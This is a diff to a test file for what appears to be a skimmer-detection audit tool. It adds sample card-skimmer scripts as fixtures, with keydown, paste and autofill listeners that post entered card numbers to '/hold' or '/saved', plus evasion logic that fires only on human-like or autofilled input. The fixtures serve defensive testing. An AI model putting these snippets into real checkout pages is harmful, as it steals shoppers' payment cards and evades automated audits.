@@ -5,6 +5,7 @@ import { beforeAll } from 'vitest';
 import { auditPage, type AuditRun } from '../../src/audit/audit.js';
 import { DEFAULT_BINS } from '../../src/audit/canary-bins-data.js';
 import { freshCanaryCard, luhnCheckDigit } from '../../src/audit/canary-card.js';
+import type { NumberEntry } from '../../src/audit/canary-hands.js';
 import type { Stay } from '../../src/audit/canary-time.js';
 import type { Browser } from '../../src/audit/driver.js';
 import { visit } from './hands.js';
@@ -93,16 +94,27 @@ export const SKIMMERS = {
     stayMs: 1000,
   },
   'key hold time': {
+    // Sent when typed with a person's holds, pasted, or filled by the browser's autofill.
     body: () => `const holds = [];
 let down = 0;
-let pasted = false;
+let unkeyed = false;
 document.addEventListener('keydown', () => { down = performance.now(); }, true);
 document.addEventListener('keyup', () => { holds.push(performance.now() - down); }, true);
-document.addEventListener('paste', () => { pasted = true; }, true);
+document.addEventListener('paste', () => { unkeyed = true; }, true);
+document.addEventListener('input', (event) => { if (event.target.matches(':autofill')) unkeyed = true; }, true);
 ${onValidCard(`(number) => {
   const typical = holds.slice().sort((a, b) => a - b)[Math.floor(holds.length / 2)];
-  if (pasted || typical >= 40) fetch('/hold', { method: 'POST', body: btoa(number) });
+  if (unkeyed || typical >= 40) fetch('/hold', { method: 'POST', body: btoa(number) });
 }`)}`,
+    stayMs: 1000,
+  },
+  'saved cards only': {
+    // Only a number the browser's autofill filled: a shopper's saved card, never a script's typing.
+    body: () => `let autofilled = false;
+document.addEventListener('input', (event) => {
+  if (event.target.autocomplete === 'cc-number' && event.target.matches(':autofill')) autofilled = true;
+}, true);
+${onValidCard(`(number) => { if (autofilled) fetch('/saved', { method: 'POST', body: number }); }`)}`,
     stayMs: 1000,
   },
   'a clock that jumped': {
@@ -156,13 +168,14 @@ export async function shopperSends(
   return receivedText();
 }
 
-/** The canary's audit of the shop as it is now. */
-export function auditCheckout(stay?: Stay): Promise<AuditRun> {
+/** The canary's audit of the shop as it is now; `entry` forces how every drive enters the number. */
+export function auditCheckout(stay?: Stay, entry?: NumberEntry): Promise<AuditRun> {
   return auditPage(browser, {
     url: `${site.origin}/checkout`,
     canary: true,
     integrityFile: 'dist/integrity.json',
     ...(stay && { stay }),
+    ...(entry && { entry }),
   });
 }
 
